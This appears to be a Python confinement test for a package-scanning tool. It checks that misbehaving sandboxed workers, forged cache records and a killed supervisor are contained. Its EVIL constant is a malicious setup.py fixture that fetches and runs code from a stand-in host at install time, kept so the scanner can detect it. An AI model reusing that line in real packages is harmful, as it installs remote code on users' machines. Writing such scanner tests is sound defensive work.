#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A build that misbehaves on request (TW_WEAK) stands for a hijacked worker: each act costs one verdict, no other
artifact's; a forged record reaches nobody else, and would without the trust rule."""
import argparse
import ctypes
import hashlib
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent.parent
passed = failed = skipped = 0

# act -> (code of the error, retryable); None: the attempt is refused and the review goes on
ACTS = {
    "crash": ("worker-crashed", True), "segv": ("worker-crashed", True), "hang": ("worker-timeout", True),
    "swell": ("worker-memory", True), "silent": ("worker-crashed", True), "half": ("worker-crashed", True),
    "frame": ("worker-protocol", False), "report:{}": ("worker-report", False),
    "socket": ("worker-forbidden-call", False), "file": ("worker-forbidden-call", False),
    "exec": ("worker-forbidden-call", False), "fork": ("worker-forbidden-call", False),
    "signal": ("worker-forbidden-call", False), "exec-memory": ("worker-forbidden-call", False),
}
EVIL = ("import os, urllib.request\nfrom setuptools import setup\n"
        "exec(urllib.request.urlopen('http://203.0.113.9/stage').read())\nsetup(name='evil', version='1.0')\n")


def check(ok, what, *more):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, *[repr(m)[:800] for m in more])


def weak_build(given):
    """The dev preset is weak; it is built here, so that the test does not depend on who built what before."""
    if given:
        return Path(given).resolve()
    if not (ROOT / "build/dev/build.ninja").exists():
        subprocess.run(["cmake", "--preset", "dev"], cwd=ROOT, check=True, stdout=subprocess.DEVNULL)
    subprocess.run(["cmake", "--build", "--preset", "dev", "--target", "tidewaiter"], cwd=ROOT, check=True, stdout=subprocess.DEVNULL)
    return ROOT / "build/dev/tidewaiter"


class Program:
    def __init__(self, path):
        self.path = str(path)

    def command(self, *args):
        return [self.path, "scan", "--format", "jsonl", "--fail-on", "never", "--stats", *map(str, args)]

    def __call__(self, *args):
        r = subprocess.run(self.command(*args), capture_output=True, text=True, timeout=300)
        return [json.loads(line) for line in r.stdout.splitlines()], r.stderr


def innocent(tmp, n):
    paths = []
    for i in range(n):
        paths.append(tmp / f"innocent{i}.py")
        paths[-1].write_text(f"import json\nprint(json.dumps({i}))\n")
    return paths


def sdist(folder, name, setup, extra=None):
    (folder / name).mkdir(parents=True)
    (folder / name / "setup.py").write_text(setup)
    (folder / name / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    for n, text in (extra or {}).items():
        (folder / name / n).write_text(text)
    return folder / name


def acts(tw, tmp, sanitized):
    others = innocent(tmp, len(ACTS) + 1)
    clean, _ = tw("--no-cache", *others)
    want = [r["report_sha256"] for r in clean]
    check(all(r["verdict"] == "clear" for r in clean), "innocents are clear", [r["verdict"] for r in clean])
    chosen = {a: e for a, e in ACTS.items() if not (sanitized and a in ("swell", "file"))}
    paths = []
    for act in chosen:
        path = tmp / f"weak-{act.split(':')[0]}.bin"
        path.write_text(f"TWWEAK:{act}\nmore\n")
        paths.append(path)
    mixed = [p for pair in zip(others, paths) for p in pair] + others[len(paths):]
    for jobs in (1, 4):
        started = time.monotonic()
        got, err = tw("--no-cache", "--jobs", jobs, "--timeout", 4, "--memory", 64, *mixed)
        check([r["artifact"] for r in got] == list(map(str, mixed)), f"{jobs} jobs: one report each, in order")
        by_name = {r["artifact"]: r for r in got}
        check([by_name[str(p)]["report_sha256"] for p in others] == want, f"{jobs} jobs: the others' reports are untouched")
        for act, path in zip(chosen, paths):
            r, (code, retryable) = by_name[str(path)], chosen[act]
            if sanitized and act in ("crash", "segv") and r["errors"]:
                code = r["errors"][0]["code"]  # the sanitizer's own end
            e = (r["errors"] or [{}])[0]
            check(r["verdict"] == "unreviewable" and (e.get("code"), e.get("retryable")) == (code, retryable),
                  f"{jobs} jobs: {act} costs its own verdict", r["verdict"], e)
            check(r["sha256"] and not r["complete"], f"{jobs} jobs: {act}: hash by the supervisor, nothing claimed")
        retried = sum(e[1] for e in chosen.values())
        check(f"{retried} retried" in err, f"{jobs} jobs: a retry for each that may have been bad luck", err)
        check(time.monotonic() - started < 120, "deadlines hold")


def not_stored(tw, tmp):
    """A death is never stored as a verdict, and nothing of the dead artifact is shared."""
    victim = tmp / "dies.bin"
    victim.write_text("TWWEAK:segv\n")
    cache = tmp / "cache-dead"
    tw("--cache", cache, victim)
    again, err = tw("--cache", cache, victim)
    check(again[0]["verdict"] == "unreviewable" and "0 stored" in err, "nothing stored", err)


def records_of(tw, tmp, path, name):
    """key -> bundle, unpacked, of all records that a review of `path` leaves."""
    cache = tmp / f"cache-{name}"
    tw("--cache", cache, path)
    db = sqlite3.connect(cache / "records.db")
    rows = dict(db.execute("SELECT key, bytes FROM record"))
    db.close()
    bundles = {k: unpack(b) for k, b in rows.items()}
    return {k: b for k, b in bundles.items() if b.startswith(b"TWFB")}  # file records, not what a file runs in its package


def unpack(data):
    lib = ctypes.CDLL("libzstd.so.1")
    lib.ZSTD_getFrameContentSize.restype = ctypes.c_ulonglong
    lib.ZSTD_decompress.restype = ctypes.c_size_t
    n = lib.ZSTD_getFrameContentSize(data, ctypes.c_size_t(len(data)))
    out = ctypes.create_string_buffer(n)
    assert lib.ZSTD_decompress(out, ctypes.c_size_t(n), data, ctypes.c_size_t(len(data))) == n
    return out.raw


def forgery(tw, tmp):
    victim = sdist(tmp / "v", "evil-1.0", EVIL)
    harmless = sdist(tmp / "h", "evil-1.0", "from setuptools import setup\nsetup(name='evil', version='1.0')\n")
    honest = tw("--no-cache", victim)[0][0]
    check(honest["verdict"] in ("suspicious", "malicious"), "the victim is found when nobody lies", honest["verdict"])
    mine, theirs = records_of(tw, tmp, victim, "v"), records_of(tw, tmp, harmless, "h")
    key = next(iter(mine.keys() - theirs.keys()))
    innocent_bundle = next(theirs[k] for k in theirs.keys() - mine.keys())
    forger = tmp / "forger.bin"
    forger.write_text(f"TWWEAK:forge:{key.hex()}:{innocent_bundle.hex()}\n")

    def run(cache, *options):
        told = tw("--cache", cache, *options, forger)[0][0]
        check(told["verdict"] == "clear", "the forger looks harmless", told["verdict"])
        return tw("--cache", cache, *options, victim)
    got, err = run(tmp / "cache-open", "--weak-trust")
    check(got[0]["verdict"] != honest["verdict"], "without the trust rule the forged record would be believed", got[0]["verdict"])
    cache = tmp / "cache-ruled"
    got, err = run(cache)
    check(got[0]["report_sha256"] == honest["report_sha256"], "with it the victim's report is the honest one", got[0]["verdict"])
    check("ALARM" in err and "1 alarms" in err, "and the lie is an alarm", err)
    db = sqlite3.connect(cache / "records.db")
    left = [a.hex() for a, in db.execute("SELECT artifact FROM report")]
    db.close()
    check(left == [got[0]["sha256"]], "no report from before the alarm is kept", left)
    got, err = tw("--cache", cache, victim)
    check(got[0]["report_sha256"] == honest["report_sha256"] and "ALARM" not in err, "the poisoned key is not used again", err)
    # the forger comes after an honest record: it cannot replace it either
    cache = tmp / "cache-late"
    tw("--cache", cache, victim)
    _, err = tw("--cache", cache, forger)
    check("ALARM" in err, "a late forger is an alarm", err)
    got, _ = tw("--cache", cache, victim)
    check(got[0]["report_sha256"] == honest["report_sha256"], "and changes nothing")


def second_opinion(tw, tmp):
    """A record planted by two forgers together is caught where it is withheld and computed anew."""
    extra = {f"m{i}.py": f"import os\nos.system('echo {i}')\n" for i in range(400)}
    path = sdist(tmp / "many", "many-1.0", "from setuptools import setup\nsetup(name='many', version='1.0')\n", extra)
    cache = tmp / "cache-many"
    honest, _ = tw("--cache", cache, path)
    db = sqlite3.connect(cache / "records.db")
    rows = db.execute("SELECT id, bytes FROM record ORDER BY id").fetchall()
    for i, _ in rows:  # all records become that of another file, well-formed and vouched for
        other = rows[0][1]
        db.execute("UPDATE record SET bytes = ?, hash = ? WHERE id = ?", (other, hashlib.sha256(unpack(other)).digest(), i))
    db.commit()
    db.close()
    _, err = tw("--cache", cache, "--records-only", path)
    check("ALARM" in err and " withheld to compare" in err and " 0 withheld" not in err, "one in a hundred is compared", err)


def survivors(tw, tmp):
    """The zygote itself is killed: its artifacts are tried again, the run goes on. When the supervisor is killed nobody stays."""
    hang = tmp / "hang.bin"
    hang.write_text("TWWEAK:hang\n")
    others = innocent(tmp, 3)

    def children(pid):
        out = subprocess.run(["ps", "-o", "pid=,comm=", "--ppid", str(pid)], capture_output=True, text=True).stdout
        return {name: int(n) for n, name in (line.split(None, 1) for line in out.splitlines()) if name.strip()}

    def find(pid, name):
        for _ in range(200):
            for comm, child in children(pid).items():
                if comm.strip() == name:
                    return child
            time.sleep(0.02)
        return None
    p = subprocess.Popen(tw.command("--no-cache", "--timeout", 3, "--jobs", 2, hang, *others), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    zygote = find(p.pid, "tw-zygote")
    check(zygote and find(zygote, "tw-worker"), "zygote and worker are there")
    os.kill(zygote, signal.SIGKILL)
    out, err = p.communicate(timeout=60)
    got = [json.loads(line) for line in out.splitlines()]
    check([r["verdict"] for r in got] == ["unreviewable"] + ["clear"] * 3, "a run survives the loss of its zygote", out[-300:], err)
    p = subprocess.Popen(tw.command("--no-cache", "--timeout", 60, hang), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    zygote = find(p.pid, "tw-zygote")
    worker = zygote and find(zygote, "tw-worker")
    p.kill()
    p.wait()
    gone = False
    for _ in range(100):
        gone = worker and not Path(f"/proc/{worker}/cmdline").exists() and not Path(f"/proc/{zygote}/cmdline").exists()
        if gone:
            break
        time.sleep(0.05)
    check(gone, "nobody outlives the supervisor")


def poor_kernel(tw, tmp):
    """A kernel without Landlock, or without seccomp, or both: the review goes on, and says what is missing."""
    global skipped
    path = tmp / "plain.py"
    path.write_text("x = 1\n")
    want = tw("--no-cache", path)[0]
    for missing in (["landlock_create_ruleset"], ["seccomp"], ["landlock_create_ruleset", "seccomp", "close_range"]):
        r = subprocess.run([sys.executable, "-c", WITHOUT, ",".join(missing), *tw.command("--no-cache", path)], capture_output=True, text=True)
        if r.returncode == 77:
            skipped += 1
            print("skipped: no libseccomp to take system calls away with")
            return
        got = [json.loads(line) for line in r.stdout.splitlines()]
        check(got == want, f"without {missing}: the same report", r.stdout[-300:], r.stderr)
        for call, layer in (("landlock_create_ruleset", "landlock"), ("seccomp", "seccomp")):
            check((f"{layer}=NO" in r.stderr) == (call in missing), f"without {missing}: --stats tells of {layer}", r.stderr)
            check((f"offers no {layer} to this process" in r.stderr) == (call in missing), f"without {missing}: a note on {layer}", r.stderr)


WITHOUT = """
import ctypes, errno, os, sys
try:
    lib = ctypes.CDLL("libseccomp.so.2")
except OSError:
    sys.exit(77)
lib.seccomp_init.restype = ctypes.c_void_p
lib.seccomp_init.argtypes = [ctypes.c_uint32]
lib.seccomp_rule_add.argtypes = [ctypes.c_void_p, ctypes.c_uint32, ctypes.c_int, ctypes.c_uint]
lib.seccomp_load.argtypes = [ctypes.c_void_p]
f = lib.seccomp_init(0x7fff0000)
for name in sys.argv[1].split(","):
    lib.seccomp_rule_add(f, 0x00050000 | errno.ENOSYS, lib.seccomp_syscall_resolve_name(name.encode()), 0)
if lib.seccomp_load(f) != 0:
    sys.exit(77)
os.execv(sys.argv[2], sys.argv[2:])
"""


def closed_world(tw, tmp):
    """What a worker holds while it works: its socket and three null devices, an empty environment, a filter."""
    hang = tmp / "look.bin"
    hang.write_text("TWWEAK:hang\n")
    p = subprocess.Popen(tw.command("--no-cache", "--timeout", 5, hang), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    worker = None
    for _ in range(200):
        out = subprocess.run(["ps", "-eo", "pid=,comm=,ppid="], capture_output=True, text=True).stdout
        rows = [line.split() for line in out.splitlines()]
        zygotes = [r[0] for r in rows if r[1] == "tw-zygote" and r[2] == str(p.pid)]
        workers = [r[0] for r in rows if r[1] == "tw-worker" and r[2] in zygotes]
        if workers and "Seccomp:\t2" in Path(f"/proc/{workers[0]}/status").read_text():
            worker = workers[0]
            break
        time.sleep(0.02)
    check(worker, "a worker under a filter")
    if worker:
        fds = {f.name: os.readlink(f) for f in Path(f"/proc/{worker}/fd").iterdir()}
        check(sorted(fds) == ["0", "1", "2", "3"] and fds["3"].startswith("socket:") and set(list(fds[k] for k in "012")) == {"/dev/null"}, "descriptors", fds)
        status = dict(line.split(":\t", 1) for line in Path(f"/proc/{worker}/status").read_text().splitlines() if ":\t" in line)
        check(status["NoNewPrivs"] == "1" and status["Threads"] == "1", "no new privileges, one thread", status)
        limits = {line[:25].strip(): line[25:].split()[0] for line in Path(f"/proc/{worker}/limits").read_text().splitlines()}
        check((limits["Max core file size"], limits["Max file size"], limits["Max cpu time"]) == ("0", "0", "6"), "limits", limits)
        check(limits["Max address space"].isdigit(), "bounded memory", limits)
    p.kill()
    p.wait()


def main():
    global skipped
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", help="not used: the weak build is")
    ap.add_argument("--weak", help="a build with TW_WEAK (default: build/dev, which is built)")
    args = ap.parse_args()
    weak = weak_build(args.weak)
    sanitized = b"__asan_init" in weak.read_bytes()
    tw = Program(weak)
    parts = [not_stored, forgery, second_opinion, survivors, poor_kernel] + ([] if sanitized else [closed_world])
    skipped += sanitized * 3
    tmp = Path(tempfile.mkdtemp(prefix="tw-confinement-"))
    try:
        acts(tw, tmp, sanitized)
        for part in parts:
            (tmp / part.__name__).mkdir()
            part(tw, tmp / part.__name__)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    if args.tidewaiter and Path(args.tidewaiter).exists():
        check(b"TWWEAK" not in Path(args.tidewaiter).read_bytes(), "the release holds none of this")
    print(f"{passed} passed, {failed} failed, {skipped} skipped")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
